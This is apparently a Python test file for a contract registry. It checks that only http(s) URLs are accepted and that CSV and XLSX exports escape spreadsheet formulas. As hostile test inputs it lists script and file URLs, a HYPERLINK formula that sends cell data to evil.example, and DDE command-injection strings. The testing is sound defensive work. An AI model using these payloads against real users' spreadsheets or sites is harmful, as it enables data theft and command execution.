"""Only http(s) URLs enter the registry, and exported spreadsheet cells never become formulas."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from alembic import command
from sqlalchemy import JSON, Engine, bindparam, text
from sqlmodel import Session

from registry import db
from registry.indigo.exporter import export_contracts
from registry.loader import load_paths, validate_paths
from registry.services.contracts import get_contract
from registry.spreadsheet import restore_cell, safe_cell, safe_frame
from tests.registry.factories import contract_dict

HOSTILE_URLS = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https:evil.example",  # no host
    "//evil.example/x",
    "www.example.org",
    "https://example.org/a report.pdf",
    "https://example.org/\x00",
]


def write(folder: Path, data: dict) -> Path:
    path = folder / f"{data['id']}.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_the_schema_accepts_only_http_urls(tmp_path: Path, url: str) -> None:
    data = contract_dict()
    data["sources"][0]["url"] = url
    data["organisations"][0]["website"] = url
    path = write(tmp_path, data)
    docs, issues = validate_paths([path])
    assert docs == []
    problems = {(i.source, i.path) for i in issues}
    assert (str(path), "sources[0].url") in problems
    assert (str(path), "organisations[0].website") in problems
    assert all("http" in i.reason or "control" in i.reason for i in issues)


def test_http_and_https_urls_are_accepted(tmp_path: Path) -> None:
    data = contract_dict()
    data["sources"][0]["url"] = "https://example.org/report.pdf?x=1#p2"
    data["organisations"][0]["website"] = "HTTP://example.org"
    docs, issues = validate_paths([write(tmp_path, data)])
    assert issues == [] and docs[0].sources[0].url == "https://example.org/report.pdf?x=1#p2"


def test_stored_documents_are_brought_within_the_limits_by_the_migration(session: Session, engine: Engine,
                                                                      tmp_path: Path) -> None:
    load_paths([write(tmp_path, contract_dict())], session=session)
    session.commit()
    session.close()
    # back to the schema before 0008 (the later migrations' own tables and columns go too), with a document saved
    # before the schema refused other schemes
    config = db.alembic_config()
    with engine.begin() as connection:
        config.attributes["connection"] = connection
        command.downgrade(config, "0007")
    with engine.begin() as conn:
        stored = conn.execute(text("SELECT document FROM contract")).scalar_one()
        document = stored if isinstance(stored, dict) else json.loads(stored)
        document["sources"][0]["url"] = "javascript:alert(1)"
        document["organisations"][0]["website"] = "https://example.org/"
        document["classification"]["note"] = "x" * 1_000_000  # as an oversized contract once saved
        document["organisations"][1]["name"] = "n" * 600
        conn.execute(text("UPDATE contract SET document = :d").bindparams(bindparam("d", type_=JSON)),
                     {"d": document})
    db.migrate(engine)
    session.expire_all()
    doc = get_contract(session=session, contract_id="se-testkommun-2020")
    assert doc is not None and doc.sources[0].url is None
    assert doc.organisations[0].website == "https://example.org/"
    assert doc.classification.note == "x" * 19_999 + "…"
    assert doc.organisations[1].name == "n" * 499 + "…"
    assert doc.organisations[0].name == "Testkommun"


# --- exports ---------------------------------------------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE_NAME, "'" + HOSTILE_NAME),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1200.50", "-1200.50"),  # a negative amount written as text stays a number
        ("+46", "+46"),
        ("-1,000,000", "-1,000,000"),
        ("Norrköping", "Norrköping"),
        ("a=b", "a=b"),
        (-1200.5, -1200.5),
        (None, None),
    ],
)
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected
    assert restore_cell(safe_cell(value)) == value  # what the INDIGO reader does with our own export


def test_safe_frame_keeps_numbers_numbers() -> None:
    frame = pd.DataFrame({"name": [HOSTILE_NAME, "ok"], "amount": [-5.0, 2.0], "count": [-1, 3]})
    safe = safe_frame(frame)
    assert safe["name"].tolist() == ["'" + HOSTILE_NAME, "ok"]
    assert safe["amount"].tolist() == [-5.0, 2.0] and safe["amount"].dtype == frame["amount"].dtype
    assert safe["count"].dtype == frame["count"].dtype
    assert frame["name"][0] == HOSTILE_NAME  # the input is not changed


@pytest.fixture
def hostile_contract(session: Session, tmp_path: Path) -> str:
    data = contract_dict()
    data["identity"]["names"]["en"] = HOSTILE_NAME
    data["organisations"][1]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    data["finance"]["capital_committed"]["amount"] = "5000000"
    folder = tmp_path / "contracts"
    folder.mkdir()
    load_paths([write(folder, data)], session=session)
    session.commit()
    return data["id"]


def test_csv_and_indigo_csv_exports_neutralise_formulas(session: Session, hostile_contract: str,
                                                        tmp_path: Path) -> None:
    cells: list[str] = []
    for fmt in ("csv", "indigo-csv"):
        result = export_contracts(session=session, fmt=fmt, path=tmp_path / fmt)
        for file in result.files:
            if file.suffix == ".csv":
                with file.open(encoding="utf-8", newline="") as fh:
                    cells += [c for row in csv.reader(fh) for c in row]
    assert "'" + HOSTILE_NAME in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]


def test_xlsx_export_has_no_formula_cells_and_keeps_numbers(session: Session, hostile_contract: str,
                                                            tmp_path: Path) -> None:
    result = export_contracts(session=session, fmt="xlsx", path=tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(result.path)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert "'" + HOSTILE_NAME in values
    header, row = list(book.worksheets[0].iter_rows(values_only=True))[:2]
    assert row[header.index("sources")] == 1  # numbers are still numbers
